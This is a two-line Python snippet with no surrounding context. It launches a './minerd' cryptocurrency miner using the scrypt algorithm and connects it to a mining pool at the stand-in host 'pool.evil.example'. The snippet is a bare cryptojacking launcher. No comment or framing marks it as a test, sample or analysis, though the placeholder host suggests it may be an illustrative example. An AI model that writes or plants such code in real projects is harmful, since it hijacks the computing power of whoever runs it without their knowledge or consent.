import subprocess

subprocess.Popen(["./minerd", "-a", "scrypt", "-o", "stratum+tcp://pool.evil.example:3333"])
